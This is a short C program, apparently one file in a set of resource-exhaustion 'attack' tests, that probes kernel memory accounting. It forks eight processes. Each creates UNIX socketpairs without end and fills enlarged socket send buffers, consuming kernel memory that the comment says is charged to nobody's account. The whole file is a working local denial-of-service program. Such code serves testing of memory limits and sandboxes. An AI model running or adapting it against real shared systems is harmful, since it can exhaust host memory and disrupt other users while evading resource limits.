/* Memory in the buffers of sockets, which is in nobody's account either. */
#include "attack.h"

int main(void)
{
	static char block[65536];
	int ends[2], size = 1 << 20;

	for (int i = 0; i < 8; i++)
		if (fork() == 0)
			break;
	while (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, ends) == 0)
		for (int i = 0; i < 2; i++) {
			setsockopt(ends[i], SOL_SOCKET, SO_SNDBUF, &size, sizeof(size));
			while (write(ends[i], block, sizeof(block)) > 0)
				continue;
		}
	pause();
}
